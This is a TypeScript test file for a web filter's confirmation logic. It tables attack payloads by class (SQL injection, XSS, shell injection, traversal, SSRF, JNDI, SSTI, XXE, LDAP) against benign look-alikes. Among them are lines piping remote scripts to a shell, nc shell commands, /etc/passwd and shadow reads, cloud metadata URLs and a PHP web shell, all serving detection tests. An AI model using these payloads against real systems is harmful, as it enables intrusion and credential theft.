// Semantic confirmation (filter/core/confirm.ts): the syntax each class needs before a window may
// score in the attack bands. Benign shapes the model over-reads must be rejected; the attacks of
// each class accepted. A table per class; plus the gate's effect on whole requests.
import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { prng } from "../../node/prng";
import { type Core, loadCore, REPO_ROOT } from "../support/core";

let core: Core;
beforeAll(async () => { core = await loadCore(); expect(core.configure("")).toBeNull(); });

const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
  // sqli
  ["sqli", "1' OR '1'='1", true],
  ["sqli", "1 UNION SELECT password FROM users--", true],
  ["sqli", "admin'--", true],
  ["sqli", "uni/**/on sel/**/ect", true],
  // a union injects a SELECT, a subquery or VALUES; a union of prose, or a spaced dash between words, is no SQL
  ["sqli", "-1 uNiOn\nAlL sElEcT 1", true],
  ["sqli", "1)union(select 1)", true],
  ["sqli", "1/*!50000union*/select 1", true],
  ["sqli", "Example News | Union and more", false],
  ["sqli", "Example News - select or cancel", false],
  // a union that ends the text after a word is a search's (`select union`, Google's `oq=`), after what
  // injected text puts before it one a window may have cut off
  ["sqli", "select union", false],
  ["sqli", "-1 union", true],
  ["sqli", "1' union", true],
  ["sqli", "1'/column is not null - ' ", true],
  ["sqli", "x' - sleep(5) - '", true],
  ["sqli", "' MOD '", true],
  ["sqli", "1;waitfor delay '0:0:5'", true],
  ["sqli", "516,516,4,4,4", false],
  ["sqli", "cats OR dogs", false],
  ["sqli", "0=9058,1=7897,2=1234", false], // id=value pairs, not a tautology
  ["sqli", "x or 1=1", true],
  ["sqli", "1 and 2>1", true],
  // A `-` or `/` joins words; it counts beside a keyword only as a minus or a comment's edge.
  ["sqli", "user-agent: select-all and/or sdk-version", false],
  ["sqli", "1 or-1=-1", true],
  ["sqli", "x and-y", false],
  ["sqli", "x and-1", true],
  ["sqli", "*/and x", true],
  // Tabs, line breaks and form feeds are SQL's whitespace as a space is.
  ["sqli", "'\nOR\n'1", true],
  ["sqli", "1\tand\f8=3", true],
  ["sqli", "'\r\nXOR\r\n'", true],
  ["sqli", "A'\n\t*\n\t'B", true],
  // JSON's literals between commas are array items; the GREASE brand's `Not` is no keyword.
  ["sqli", "[1,null,null,null,25200,null,true,false,2]", false],
  ["sqli", "null,null,null union select", true],
  // `or`, `and`, `xor` between a string the text quoted itself and a quoted plain word join a string
  // every engine reads as false (LLM tool schemas' `either 'celsius' or 'fahrenheit'`); the probe
  // `A' OR 'B` breaks out with its first quote, and a true string, a comparison or SQL after it stays.
  ["sqli", "The unit of temperature, either 'celsius' or 'fahrenheit'", false],
  ["sqli", "Saves the prefered response ('A' or 'B')", false],
  ["sqli", "A' OR 'B", true],
  ["sqli", "x' and 'y", true],
  ["sqli", "either 'x' or 'true'", true],
  ["sqli", "either 'x' or 't'", true],
  ["sqli", "either 'x' or '1'", true],
  ["sqli", "either 'x' or 'a'='a", true],
  ["sqli", "either 'x' or 'a' in ('a')", true],
  ["sqli", "either 'x' or 'a' union select 1", true],
  ["sqli", "either 'x' or 'a'--", true],
  ["sqli", "either 'x' or \"id\"", true],
  // A word quoted alone is a string's text (a role of `'user'`); an operator glued between quotes is
  // SQL's (`x'or'1'='1`). A member's name after `name.` is code's or a qualified name's part.
  ["sqli", "'user'", false],
  ["sqli", "x'or'1'='1", true],
  ["sqli", "x'and'1", true],
  ["sqli", "test.user(test.user)", false],
  ["sqli", "self.version()", false],
  ["sqli", "1.union select", true],
  ["sqli", "' and user()='root", true],
  ["sqli", "' or null is null--", true],
  ["sqli", "[[\"Not)A;Brand\",\"99\"],[\"Google Chrome\",\"127\"]]", false],
  ["sqli", "[[\"Not=A?Brand\",\"8\"]]", false],
  ["sqli", "x not) and (1", true],
  // Comparisons and operator words after a closing quote; system variables; a comparison in parentheses.
  ["sqli", "A '!=' B", true],
  ["sqli", "aa'!=~'1", true],
  ["sqli", "foo' Eqv StrComp(username, 0x12)", true],
  ["sqli", "x' in (1,2)", true],
  ["sqli", "x' is null", true],
  ["sqli", "rockin' in the free world", false],
  ["sqli", "PRINT @@version", true],
  ["sqli", "piggybackCookie=uid:@@CRITEO_USERID@@", false],
  ["sqli", "(2329=4209)*1", true],
  ["sqli", "see (page=4) below", false],
  // A quote before `/`: division ('/1, ' / x, '/'), not a JSON string that opens a path.
  ["sqli", "'/1/1='", true],
  ["sqli", "A' / 'B", true],
  ["sqli", "'/'", true],
  ["sqli", "[\"/client_streamz/bg/fil\",null,[\"rk\",\"ke\"]]", false],
  // xss
  ["xss", "<script>alert(1)</script>", true],
  ["xss", "<img src=x onerror=alert(1)>", true],
  ["xss", "\" onmouseover=\"alert(1)", true],
  ["xss", "javascript:alert(document.cookie)", true],
  ["xss", "alert.call(null,1)", true],
  ["xss", "document.pdf", false],
  ["xss", "See attached document(s).", false],
  ["xss", "document.write(1)", true],
  ["xss", "top[/al/.source+/ert/.source](1)", true],
  ["xss", "javascript:;", false],
  ["xss", "javascript:void(0)", false],
  ["xss", "[object Object]", false],
  // a member of the global object acts when it is a sink or a handler itself, not a page's own global
  ["xss", "window.dataLayer = window.dataLayer || [];", false],
  ["xss", "if (self.Sentry) self.Sentry.init({ dsn: x })", false],
  ["xss", "window.location='//evil.example'", true],
  ["xss", "top.onerror=alert", true],
  ["xss", "window.onload = go", true],
  ["xss", "window.OneTrust.Init()", false],
  ["xss", "window.onPageReady(init)", false],
  ["xss", "self.fetch('//x.example/'+c)", true],
  ["xss", "script-src 'self' 'unsafe-inline'", false],
  // A tag must be able to act: an active element, the end of a raw-text one, or an attribute value.
  ["xss", "<svg/onload=alert(1)>", true],
  ["xss", "\" onerror\n=alert(1)", true],
  ["xss", "alert\n(1)", true],
  ["xss", "(alert)(1)", true],
  ["xss", "(0,eval)(\"al\"+\"ert\")(1)", true],
  ["xss", "<iframe src=//evil.example>", true],
  ["xss", "<base href=//evil.example/>", true],
  ["xss", "</title><x>", true],
  // An unknown element acts by a style, a handler or a URL, not by any attribute (`<example
  // index="2">` of LLM prompts' XML tags); a known one by any but a type.
  ["xss", "<x y=1>", false],
  ["xss", "<img y=1>", true],
  ["xss", "<example index=\"2\">Input: 2+2</example>", false],
  ["xss", "<x style=\"color:red\">", true],
  ["xss", "<x xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\" ev:handler=\"test.evt#x\"/>", true],
  ["xss", "<svg:rect x=\"0\">", true],
  ["xss", "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">", false],
  // A comment, a page's doctype, and attributes that only name, label, lay out or declare the page
  // (a class, a column span, an encoding a filter reads, a Content-Type) run nothing: every HTML page
  // posted whole holds them. An encoding that hides markup from a filter (UTF-7), a refresh, a cookie,
  // a linked style sheet, an id (a payload's target) and a style still act.
  ["xss", "<!--", false],
  ["xss", "<!DOCTYPE html>", false],
  ["xss", "<![CDATA[", true],
  ["xss", "<div class=\"note\" lang=\"en\">", false],
  ["xss", "<td colspan=\"2\" align=\"left\">", false],
  ["xss", "<meta charset=\"utf-8\">", false],
  ["xss", "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">", false],
  ["xss", "<meta charset=\"x-imap4-modified-utf7\">", true],
  ["xss", "<META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\">", true],
  ["xss", "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", true],
  ["xss", "<META HTTP-EQUIV=\"Link\" Content=\"<http://evil.example/x.css>; REL=stylesheet\">", true],
  ["xss", "<div id=\"x\">", true],
  ["xss", "<span style=\"color:red\">", true],
  ["xss", "{\"clientId\": \"<apps client id>\", \"userName\": \"<userName>\"}", false],
  ["xss", "\"id\": \"<url-id>\"", false],
  ["xss", "Amazon Web Services <aws@amazon.com>", false],
  ["xss", "a </p> b", false],
  // An element acts by its text (script, style) or by an attribute with a value, not by its name:
  // a bare document's structure (an e-mail API's HtmlBody, a CMS's rich text) is inert.
  ["xss", "<html><body><strong>Hello</strong> dear user.</body></html>", false],
  ["xss", "</form></body>", false],
  ["xss", "<body onload=alert(1)>", true],
  ["xss", "<style>", true],
  ["xss", "</script><script>", true],
  ["xss", "</iframe>", true],
  // rce; a Markdown table's cells are not commands after pipes, `|id|` is.
  ["rce", "| id | name | type |", false],
  ["rce", "x |id| y", true],
  ["sqli", "| id | n |\n|---|---|\n| 1 | 2 |", false],
  ["sqli", "1 --", true],
  ["rce", ";cat /etc/passwd", true],
  ["rce", "| whoami", true],
  ["rce", "$(id)", true],
  ["rce", "def p = 'whoami'.execute()", true],
  ["rce", "job.execute(); stmt.execute(sql)", false],
  ["rce", "c''at /etc/passwd", true],
  ["rce", "${T(java.lang.Runtime).getRuntime().exec('id')}", true],
  ["rce", "<?php system($_GET['c']); ?>", true],
  ["rce", "please cat the file and id it", false],
  // name=value where a command stands is an assignment; its value runs only through $( or a backquote,
  // a variable in command position runs what it holds, and after the value's blank comes a command.
  // a sink's `.` is a member access when a property's name follows, not a sentence's end
  ["xss", "I'm having a problem with this.", false],
  ["xss", "Open the window. Then close it.", false],
  ["xss", "alert.call(null,1)", true],
  ["xss", "document.pdf", false],
  ["xss", "See attached document(s).", false],
  ["xss", "document.write(1)", true],
  ["xss", "document. cookie", true],
  // a property sink assigned: as a member or a string, not as a parameter's name
  ["xss", "document.cookie=1", true],
  ["xss", "x.innerHTML=y", true],
  ["xss", "location=\"//evil.com\"", true],
  ["xss", "src=1714233", false],
  ["xss", "Set-Cookie=Foo=Bar;SameSite=None;Secure;", false],
  ["xss", "Location=2&LinkType=BBR", false],
  // An attribute that only types the element acts on nothing (SOAP bodies); any other may.
  ["xss", "<obj type=\"CustomizationSpecManager\">CustomizationSpecManager</obj>", false],
  ["xss", "<propSet xsi:type=\"PropertySpec\"><all>0</all>", false],
  ["xss", "<x type=1 onclick=alert(1)>", true],
  ["xss", "<input type=text value=x>", true],
  ["xss", "<x type=\"a\" style=\"x\">", true],
  // an operator needs its left operand, a pattern match a pattern, a function a call
  ["sqli", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15", false],
  ["sqli", "Mozilla/5.0 (iPhone; CPU iPhone OS 16_3 like Mac OS X) AppleWebKit/605.1.15", false],
  ["sqli", "FyndSearchEngine-Crawler (by fynd.bot; https://fynd.bot)", false],
  ["sqli", "(compatible; MSIE or Firefox mutant; not on Windows server;)", false],
  // CASE's WHEN and THEN follow a condition, never a list's comma (`Select the rows, then run it`).
  ["sqli", "Run `SELECT id FROM users`, then paste the output", false],
  ["sqli", "Yes, when the job ends, then the table is dropped", false],
  ["sqli", "1 and (case when 1=1 then sleep(5) end)", true],
  ["sqli", "' or case when 1=1 then 1 else 0 end--", true],
  ["sqli", "' like '%admin%", true],
  ["sqli", "1 like 1", true],
  ["sqli", "1 and version()", true],
  ["sqli", "@version --", true],
  ["sqli", "1 order by 3", true],
  ["sqli", "Can be either `branch` or `tag`.", false],
  ["sqli", "Release v1.0.0 is now available!", false],
  ["sqli", "notifications{?since,all,participating}", false],
  ["sqli", "aa'is\\N|!'", true],
  ["sqli", "1 is not null", true],
  ["sqli", "1 and if(1=1,sleep(5),0)", true],
  // sensitive names and extensions as a path segment's, not inside a word; .xml only in a Windows path
  ["traversal", "..\\..\\etc\\shadow", true],
  ["traversal", "load=/.shosts", true],
  ["traversal", "\\xampp\\tomcat\\conf\\web.xml", true],
  ["traversal", "config.ini%00", true],
  ["traversal", "box-shadow: 0 1px 2px #000", false],
  ["traversal", "psy-ab.3..0l10.3193.3930.0.4082.8.8.0", false],
  ["traversal", "/etc/designs/ryanair/favicon/favicon.ico", false],
  ["traversal", "/etc/clientlibs/ryanair/standard_min.js", false],
  ["traversal", "/etc/wu-ftpd/ftpusers", true],
  ["traversal", "/etc/designs/../../etc/passwd", true],
  ["traversal", "..%2f..%2fetc", true],
  ["traversal", "a/..;/b", true],
  ["ssrf", "3193.3930.0.4082.8.8.0.0.0.0.77.543", false],
  ["ssrf", "1.2.840.113549.1.1.1", false],
  ["ssrf", "ping 127.0.0.1", true],
  ["ssrf", "http://127.0.0.1.nip.io/", true],
  ["sqli", "exec master..xp_cmdshell 'net view'", true],
  ["traversal", "/js/jquery.initialize.js", false],
  // an extension a `(` follows is a method called, not a file's; a file's name before a blank and `(` is one
  ["traversal", "console.log('x')", false],
  ["traversal", "y = Math.log(x) * 2", false],
  ["traversal", "error.log (5 MB)", true],
  ["traversal", "/sitemap.xml", false],
  ["traversal", "/assets/js/foundation/hosts.js", false],
  // && and || join commands, not the empty fields of pipe-separated data
  ["rce", "&& netsh firewall set opmode disable", true],
  ["rce", "&& sysinfo", true],
  ["rce", "&&diraaaa", true],
  // A name and its members glued to a call's `(` is script's logic; a shell defines a function so.
  ["rce", "window.OneTrust && window.OneTrust.Init()", false],
  ["rce", "el && el.parentNode.removeChild(el)", false],
  ["rce", "x && f() { id; }", true],
  ["rce", "x && run.sh", true],
  ["rce", "||ifconfig|nc 10.0.0.1 4444", true],
  ["rce", "asp:1716250546401||b0183fdd8e7116f2f0c3e8697d0f01bc||d6a03ca2a9f76b0e||", false],
  ["rce", "5685587||ORDER=||SECTION_ID=||PAGE=2", false],
  ["rce", "us_privacy=1---&&h=ATELbGiALUpcV1D34VBG", false],
  ["rce", "4|28940|||TC||C|||", false],
  // || and && join operands (SQL, JavaScript), not the fields of pipe-separated data
  ["sqli", "CHAR(107)||CHAR(121)", true],
  ["sqli", "'||UTL_HTTP.REQUEST", true],
  ["sqli", "1\v||\vsubstr(user,1,1)", true],
  ["sqli", "1 || user_id is not null", true],
  ["sqli", "1+||+1+=+1+into+outfile+'result.txt'", true],
  ["sqli", "dyperf|20388||0|||", false],
  // a quote that closes a string the text opened breaks out of nothing (code's calls)
  ["sqli", "xhr.open('POST', 'http://sentry-test.io/foo');", false],
  ["sqli", "1') or ('1'='1", true],
  ["sqli", "x');DROP TABLE users;--", true],
  ["sqli", "admin'--", true],
  ["sqli", "a'+'b", true],
  ["sqli", "2285f1c1010800cf||t=1464499470|et=730", false],
  ["nosqli", "|| 1==1", true],
  ["nosqli", "' && this.password.match(/.*/)//", true],
  ["nosqli", "sleep(10000) || true", true],
  ["nosqli", "dyperf|20387||196|||.dyperf|20393||59|||", false],
  // an operator as a key (alone, as a JSON body's split gives it, in brackets or quotes, before `:`, `]` or `=`);
  // a GraphQL variable named as one, used as a value or declared with its type, is none
  ["nosqli", "$ne", true],
  ["nosqli", "password[$ne]=x", true],
  ["nosqli", "{ $where: \"sleep(1)\" }", true],
  ["nosqli", "{'$gt': ''}", true],
  ["nosqli", "query Q($size: Int, $text: [String!]) { foo(size: $size, text: $text) }", false],
  ["nosqli", "foo(\n    size: $size\n    bar: $b\n  )", false],
  ["nosqli", "o||o|", false],
  ["rce", "x=/bin/sh -i", true],
  ["rce", "id,name,handle", false],
  ["rce", "ver.spa-beta", false],
  ["rce", "utmcsr=(direct)|utmcmd=(none)|utmccn=(not set)", false],
  ["rce", "{cat,/etc/passwd}", true],
  ["rce", "cat$IFS/etc/passwd", true],
  ["rce", ";whoami/n", true],
  ["rce", "/usr/bin/id", true],
  ["rce", "https://github.com/octokit/octokit.rb/blob/master/bin/some-symlink", false],
  ["rce", "runtime_risks", false],
  ["rce", "Runtime.getRuntime().exec('id')", true],
  ["rce", "x||ifconfig", true],
  ["rce", "dyperf|20388||0|||", false],
  ["nosqli", "a problem with this.", false],
  ["nosqli", "this.x==1", true],
  // a real line break opens a header only with a header's name; breaks written out stay an attacker's
  ["crlf", "x\r\nSet-Cookie: a=1", true],
  ["crlf", "x\nLocation: //evil.example", true],
  ["crlf", "a\\r\\nX: y", true],
  ["crlf", "Thanks!\nNote: the order ships Monday.\nSummary: fine", false],
  // a data URL's ;base64, names an encoding; the command after a separator still runs
  ["rce", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB", false],
  ["rce", "x;base64 -d /tmp/p|sh", true],
  // a Ruby or JSF interpolation of the template's data runs no code; of an engine's name, a call or an operator it does
  ["rce", "Project Owner: #{asset.owner.firstName}", false],
  ["rce", "#{7*7}", true],
  ["rce", "#{Dir.pwd}", true],
  ["rce", "#{`id`}", true],
  ["rce", "#{asset.name} and #{File.read('/etc/passwd')}", true],
  // a system directory at a path's root, after a climb, a drive or an escape; not one segment deeper in some path
  ["traversal", "/sys/class/net", true],
  ["traversal", "../../var/log/x", true],
  ["traversal", "x=/home/user/.ssh", true],
  ["traversal", "\\n/usr/bin/id\\n", true],
  ["traversal", "C:/windows/win.ini", true],
  ["traversal", "{ /payload/sys/id }", false],
  ["traversal", "/en-us/windows/features", false],
  ["traversal", "https://example.com/home/tmp/x.png", false],
  // a split response's body after a break is markup a browser renders; an LLM prompt's own tags are none
  ["crlf", "x\r\n\r\n<html><body>hi", true],
  ["crlf", "x\n\n<svg/onload=alert(1)>", true],
  ["crlf", "x\r\n\r\n<!DOCTYPE html>", true],
  ["crlf", "x\r\n</title><script>", true],
  ["crlf", "</example>\n\n<example>\nuser: \"Can you", false],
  ["crlf", "Answer the question.\n<instructions>\nBe brief.\n</instructions>", false],
  // markup after a whole tag is a document's next line; after a broken-out attribute it is a split body
  ["crlf", "<!DOCTYPE html><html lang=\"en\"><head>\n    <meta charset=\"UTF-8\" />", false],
  ["crlf", "<p>Click some of these links!</p>\n</div>", false],
  ["crlf", "\">\n\n<script>alert(1)</script>", true],
  ["rce", "--- !ruby/object:Gem::Installer\n i: x", true],
  ["ssti", "{if phpinfo()}{/if}", true],
  ["ssti", "<p th:text=\"${T(java.lang.Runtime)}\">", true],
  ["ssti", "{c:e3kzdl,pingTime:-2,time:109,type:a,fc:0,rt:1,cb:0,np:1,th:0,es:0}", false],
  ["ssti", "width:100px", false],
  // a JSON literal quoted alone is a string holding the word (a schema printed by Python in a prompt)
  ["sqli", "'anyOf': [{'type': 'string'}, {'type': 'null'}], 'default': None}", false],
  ["sqli", "x'null'--", true],
  ["sqli", "' or null='", true],
  // templates posted as data (prompt, e-mail and page templates) bind names; injected ones run code
  ["ssti", "Hello {{ user.name }}, {% for doc in documents %}- {{ doc.title }}{% endfor %}", false],
  ["ssti", "{%- if user.email -%}{{ user.email }}{% else %}friend{% endif %}", false],
  ["ssti", "Generate a <%= @language %> function", false],
  ["ssti", "${user.name}", false],
  // The engine's own objects printed whole: Jinja's configuration, a template's internals.
  ["ssti", "{{config}}", true],
  ["ssti", "{{ self }}", true],
  ["ssti", "Dear {{_self}}", true],
  ["ssti", "{{title}}", false],
  ["ssti", "{{ this }}", false],
  ["ssti", "{{configs}}", false],
  ["ssti", "${applicationScope}", true],
  ["ssti", "${ pageContext }", true],
  ["ssti", "${name}", false],
  ["ssti", "{% debug %}", true],
  ["ssti", "{% csrf_token %}", true],
  ["ssti", "{{e.user.get_username}} : {{e.user.password}}", true],
  ["ssti", "{{ settings.SECRET_KEY }}", true],
  ["ssti", "{{ request.application }}", true],
  ["ssti", "{{config.items()}}", true],
  ["ssti", "<%= 7*7 %>", true],
  ["ssti", "<% system(\"id\") %>", true],
  ["ssti", "{% for x in ().__class__.__base__.__subclasses__() %}", true],
  ["ssti", "{{ doc.title|upper }}", true],
  // A tag the window cuts, its code maybe in the next window (which starts after its open).
  ["ssti", "{% if x " + "a".repeat(80), true],
  ["ssti", "https://api.github.com/users/Codertocat/gists{/gist_id}", false],
  ["nosqli", "user[$ne]=x", true],
  ["nosqli", "{\"username\":{\"$regex\":\"^adm\"}}", true],
  ["nosqli", "query Q($body: String) { node(body: $body) { id } }", false],
  ["nosqli", "--host=$SENTRY_HOST", false],
  ["nosqli", "#/$defs/refToInteger", false],
  ["rce", ";type=annotation", false],
  ["rce", "o=2&type=1&code=3340&tl=129600", false],
  ["rce", "0.25;id=2579437;u=https://m.vk.com/;pid=0", false],
  ["rce", "$5;$10", false],
  ["rce", "a=$(id)", true],
  ["rce", "a=`id`", true],
  ["rce", ";CMD=$\"id\";$CMD", true],
  ["rce", "a=id;${a}", true],
  ["rce", ";x=1 cat /tmp/x", true],
  // A command word first on its line is a command unless a GraphQL-like document makes it a field.
  ["rce", "\nid", true],
  ["rce", "%0aid%0a".replace(/%0a/g, "\n"), true],
  ["rce", "\n\tnetstat\n\t-an", true],
  ["rce", "()\n{\n:;};\nwget\nhttp://192.0.2.1/x.txt", true],
  ["rce", "|\r\nnet\r\nview", true],
  ["rce", "type C:\\boot.ini", true],
  ["rce", "{\n  node {\n    id\n    type\n  }\n}", false],
  ["rce", "type {\n", false],
  ["rce", "id: 1\n    }\n    id: 1\n  })\n}", false],
  ["rce", "{\n  user(id: 4) {\n    name\n    ...F\n  }\n}", false],
  ["rce", "cat${IFS}/etc/passwd", true],
  // a command that wants an operand, bare in a list, is a word of it; with one (or a line on) it runs
  ["rce", "sport;at;foot", false],
  ["rce", "home;head;top", false],
  ["rce", "news|more|info", false],
  ["rce", "sport;cat /etc/passwd", true],
  ["rce", "cat</etc/passwd", true],
  ["rce", "x;sleep 5", true],
  ["rce", "|\n\ttype\n\t%SYSTEMROOT%\\repair\\SAM", true],
  ["rce", "foo;id", true],
  // a shell or interpreter bare reads the server's empty input; after a pipe, what the pipe feeds it
  ["rce", "code;python;tutorial", false],
  ["rce", "curl http://x.example/s|sh", true],
  ["rce", "a;wget;b", false],
  ["rce", "a;wget http://x.example/s", true],
  // sleep wants a duration, net one of its subcommands: page titles' prose after a separator is neither
  ["rce", "Example News | sleep now", false],
  ["rce", "Finance | Net income", false],
  ["rce", "x;sleep infinity", true],
  ["rce", "x|net user", true],
  // a variable glued to `=` runs only what the text assigned it (a shell knows assignments before it
  // expands): ad servers' targeting lists; a bare one runs what it holds; `set` assigning is cmd.exe's
  // or a config line's
  ["rce", "$dt=1t;$dma=807;support=section;site=1;", false],
  ["rce", "site=1;;$mct=1t;$hc", true],
  ["rce", "a;a='id ';$a=1", true],
  ["rce", "a=id;b=2;$a=1", true],
  ["rce", "xa=id;$a=1", false],
  ["rce", "a;$x==1", true],
  ["rce", "a;$hc", true],
  ["rce", "sub vcl_recv {\n  set req.backend = default;\n  set req.hash += req.url;\n}", false],
  ["rce", "a;set PATH", true],
  ["rce", "&set /a x=1", true],
  ["rce", "${PATH:0:1}bin${PATH:0:1}sh", true],
  ["rce", "a=${@}", true],
  ["rce", "x ${", true],
  // unfilled ad-tech macros name a variable and run nothing
  ["rce", "gdpr=${GDPR}&gdpr_consent=${GDPR_CONSENT_110}&us_privacy=${US_PRIVACY}", false],
  // A redirection needs its target: a shell refuses the line otherwise (an id in angle brackets of a
  // path, XML's `<id>…</id>`), and runs any command whose redirections are whole.
  ["rce", "/v2/search/sprite/&id<449>", false],
  ["rce", "<order><id>42</id></order>", false],
  ["rce", ";id>/tmp/x", true],
  ["rce", ";cat</etc/passwd", true],
  ["rce", ";ls 2>&1", true],
  ["rce", "x;cat <<<$(id)", true],
  ["rce", ";id >>/tmp/x", true],
  ["rce", ";cat <<EOF", true],
  ["rce", "<type>ExtensionManager</type><all>0</all>", false],
  ["rce", "; cat <(id)", true],
  // traversal
  ["traversal", "../../../etc/passwd", true],
  ["traversal", "..\\..\\windows\\win.ini", true],
  ["traversal", "....//....//etc/passwd", true],
  ["traversal", "C:/inetpub/wwwroot/web.config", true],
  ["traversal", "你好%世界%", false],
  ["traversal", "wait... what?", false],
  // ssrf and open redirect
  // inet_aton's short forms of an address, and the other fetchers' schemes.
  // an @ ends a user part only in a URL's authority
  ["open_redirect", "https://trusted.example@evil.example/", true],
  // tabs and line breaks between the slashes, which browsers drop
  ["open_redirect", "/\t/evil.example", true],
  ["open_redirect", "\\\n\\evil.example", true],
  ["open_redirect", "a / b", false],
  // a site alone is a link (share counters, link checkers); a path, an address, a second value's trick still confirm
  ["open_redirect", "url=https://google.com", false],
  ["open_redirect", "u=http://google.com/", false],
  ["open_redirect", "next=https://evil.example/&x=1", false],
  ["open_redirect", "http://google.com&www.whitelisteddomain.tld", true],
  ["open_redirect", "next=https://evil.example/login", true],
  ["open_redirect", "next=http://10.0.0.1", true],
  ["open_redirect", "next=http://localhost", true],
  ["open_redirect", "a=https://google.com&b=//evil.example", true],
  ["open_redirect", "//google.com", true],
  // a value's special scheme without its slashes, which browsers repair; not a word before a colon
  ["open_redirect", "return=https:evil.example", true],
  ["open_redirect", "status=http:200", false],
  ["open_redirect", "note=see http:example.com", false],
  ["open_redirect", "x.https://google.com", true],
  ["open_redirect", "/\t/www.whitelisteddomain.tld@google.com", true],
  ["open_redirect", "http:www.whitelisteddomain.tld@3627734734", true],
  ["open_redirect", "jane.doe@example.com", false],
  ["open_redirect", "Barlow Semi Condensed:wght@100;200;300", false],
  // metadata as a host, not a path's or a document's word
  ["ssrf", "http://metadata/computeMetadata/v1/", true],
  ["ssrf", "http://metadata.tencentyun.com/latest/meta-data/", true],
  ["ssrf", "x@metadata/v1", true],
  ["ssrf", "/library/metadata/5d77682af54112001f5bc43f", false],
  ["ssrf", "metadata.labels.app", false],
  // a dotted address, not a version; a user part inside the URL only
  ["ssrf", "url=10.0.0.1", true],
  ["ssrf", "http:472.314.470.462", true],
  ["ssrf", "http://0177.0.0.1/", true],
  ["ssrf", "https://;@evil.com", true],
  ["ssrf", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", false],
  ["ssrf", "\"126.0.6478.127\"", false],
  ["ssrf", "Kemvibot/1.0 (http://kemvi.com, marco@kemvi.com)", false],
  ["ssrf", "http://127.1/admin", true],
  ["ssrf", "http://127.0.1", true],
  ["ssrf", "url=ssrf.php?url=sftp://evil.example:11111/", true],
  ["ssrf", "ldaps://10.0.0.5/o=x", true],
  ["ssrf", "https://cdn.example.com/v1.2/app.js", false],
  ["ssrf", "https://example.com/1.5", false],
  ["ssrf", "http://169.254.169.254/latest/meta-data/", true],
  ["ssrf", "gopher://127.0.0.1:6379/_INFO", true],
  ["ssrf", "a8Fk2/9sdP+qq/ZZ0==", false],
  ["ssrf", "http://0x7f000001/", true],
  // public names that resolve to loopback
  ["ssrf", "http://localtest.me/admin", true],
  ["ssrf", "http://127.0.0.1.sslip.io/", true],
  ["ssrf", "http://lvh.me:3000/", true],
  ["ssrf", "https://example.me/", false],
  ["ssrf", "http://2130706433/admin", true],
  ["ssrf", "http://example.com@127.0.0.1/", true],
  ["ssrf", "http://metadata.google.internal/computeMetadata/v1/", true],
  ["ssrf", "0x0:2040x1360", false],
  ["ssrf", "https://cdn.example.com/uploads/a.png", false],
  ["open_redirect", "//evil.example/", true],
  ["open_redirect", "https://evil.example", false], // a site alone: see bareSiteUrl
  ["open_redirect", "\\j\\av\\a\\s\\cr\\i\\pt\\:alert(1)", true],
  ["open_redirect", "eyJ0eXAiOiJKV1QiLCJhbGc/iOiJIUzI1NiJ9+abc", false],
  // jndi, ssti, xxe, nosqli, crlf, ldapi
  ["jndi", "${jndi:ldap://x.example/a}", true],
  ["jndi", "${${lower:j}ndi:ldap://x/a}", true],
  ["jndi", "${GDPR}", false],
  // two unfilled ad-tech macros side by side are not a nested lookup
  ["jndi", "gdpr=${GDPR};gdpr_consent=${GDPR_CONSENT_755};ltd=", false],
  ["jndi", "${${::-j}ndi:ldap://x/a}", true],
  ["ssti", "{{7*7}}", true],
  ["ssti", "${7*7}", true],
  ["ssti", "{{config.items()}}", true],
  ["ssti", "{{uid}}", false],
  // a Go template's field is a name too (ad servers' user-sync URLs carry them unfilled); its whole data and a chain are not
  ["ssti", "gdpr={{.GDPR}}&gdpr_consent={{.GDPRConsent}}&us_privacy={{ .USPrivacy }}", false],
  ["ssti", "{{.}}", true],
  ["ssti", "{{.Env.PATH}}", true],
  ["ssti", "{{.System \"id\"}}", true],
  // A tag the window does not close runs what the window holds of it: nothing after a piece's `<%=`,
  // a name a window's end cut; code still confirms.
  ["ssti", "{{^items}}No items.{{/items}}", false],
  ["ssti", "x{^y}", true],
  ["ssti", "<%=", false],
  ["ssti", "module <%= project_name", false],
  ["ssti", "<%= 7*7", true],
  ["ssti", "{% debug", true],
  ["xxe", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", true],
  ["xxe", "<order><id>42</id></order>", false],
  ["nosqli", "{\"$ne\": null}", true],
  ["nosqli", "[$gt]=", true],
  ["nosqli", "price: 5 dollars", false],
  // JavaScript's `return` is lower-case and returns an expression: not prose's `Return True` or
  // `return the book`, nor Python's `return a and b`.
  ["nosqli", "'; return true; var x='", true],
  ["nosqli", "1; return this.password", true],
  ["nosqli", "return sleep(5000)", true],
  ["nosqli", "x; return x\ny", true],
  ["nosqli", "\";return(true);var xyz='a", true],
  ["nosqli", "1;return(1)", true],
  ["nosqli", "Return True", false],
  ["nosqli", "the return(s) desk", false],
  ["nosqli", "returned (late)", false],
  ["nosqli", "Then return the book to the library", false],
  ["nosqli", "return has_gpu and gpu_count >= 2", false],
  ["crlf", "x\r\nSet-Cookie: a=b", true],
  ["crlf", "line one\nline two", false],
  // An item after `)(` (RFC 4515), or an operator that breaks the filter; groups alone are not LDAP.
  ["ldapi", "admin)(objectClass=*", true],
  ["ldapi", "administrator)(aaaaaaaaa&)", true],
  ["ldapi", "a7Q2Fff(f(@-w)c((X1Y2Z3)(Q4ff3Q3AQ5C)i", false],
  ["ldapi", "see (a)(b) above", false],
  ["ldapi", "*)(uid=*))(|(uid=*", true],
  // a wildcard that closes a filter, not SQL's COUNT(*) or C's (*fn)
  ["ldapi", "admin*)", true],
  ["ldapi", "SELECT COUNT(*) AS count FROM comments", false],
  ["ldapi", "int (*fn)(void)", false],
  ["ldapi", "(see page 4)", false],
  // An operator applies to filters or to none; in a password's symbols it is none of LDAP's.
